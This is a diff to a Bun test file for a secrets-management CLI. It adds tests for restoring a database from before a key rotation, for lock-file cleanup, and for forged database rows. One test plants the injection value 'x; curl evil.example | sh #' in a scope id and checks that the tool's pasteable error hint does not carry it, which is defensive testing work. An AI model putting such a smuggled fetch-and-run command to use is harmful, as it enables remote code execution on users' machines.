@@ -1,6 +1,6 @@
 import { Database } from 'bun:sqlite'
 import { describe, expect, test } from 'bun:test'
-import { copyFileSync, writeFileSync } from 'node:fs'
+import { appendFileSync, copyFileSync, writeFileSync } from 'node:fs'
 import { changeDatabase, identityCount, sealedRows } from '../helpers/sealed.ts'
 import { TempHome } from '../helpers/temp-home.ts'
 
@@ -158,4 +158,47 @@ test('an empty list that nobody has signed says nothing of vaults, recipients or
   expect(home.read('age.key')).not.toContain('PLANTED')
   expect(home.read('age.key')).toContain(/AGE-SECRET-KEY-\S+/.exec(key)?.[0] ?? 'nothing')
   expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('new')
+})
+
+describe('after a copy of the database from before a rotation was put back', () => {
+  test('no identity goes that the newer database needs', async () => {
+    using home = new TempHome(SCOPES)
+    home.put('a', 'TOKEN', 'v')
+    copyFileSync(home.file('mcplexer.db'), home.file('old.db'))
+    expect(home.runSync(['rotate-key', '--keep-old', home.file('old.key')]).exitCode).toBe(0)
+    copyFileSync(home.file('mcplexer.db'), home.file('new.db'))
+
+    copyFileSync(home.file('old.db'), home.file('mcplexer.db'))
+    appendFileSync(home.file('age.key'), home.read('old.key'))
+    expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('v')
+    expect(await identityCount(home)).toBe(2)
+
+    copyFileSync(home.file('new.db'), home.file('mcplexer.db'))
+    expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('v')
+  })
+})
+
+test('tidying up waits for nobody who holds the key file', () => {
+  using home = new TempHome(SCOPES)
+  home.put('a', 'TOKEN', 'v')
+  writeFileSync(home.file('.age.key.left.tmp'), '')
+  const holder = new Database(home.file('.age.key.lock'))
+  holder.run('begin exclusive')
+
+  const started = performance.now()
+  expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('v')
+
+  expect(performance.now() - started).toBeLessThan(5000)
+  holder.close()
+})
+
+test('the id of a forged row becomes no part of a command to paste', () => {
+  using home = new TempHome(SCOPES)
+  home.put('a', 'TOKEN', 'v')
+  changeDatabase(home, 'update sealed_scopes set scope_id = ?', 'x; curl evil.example | sh #')
+
+  const { exitCode, stderr } = home.runSync(['rotate-key'])
+
+  expect(exitCode).toBe(1)
+  expect(stderr.split('hint')[1]).not.toContain('evil')
 })
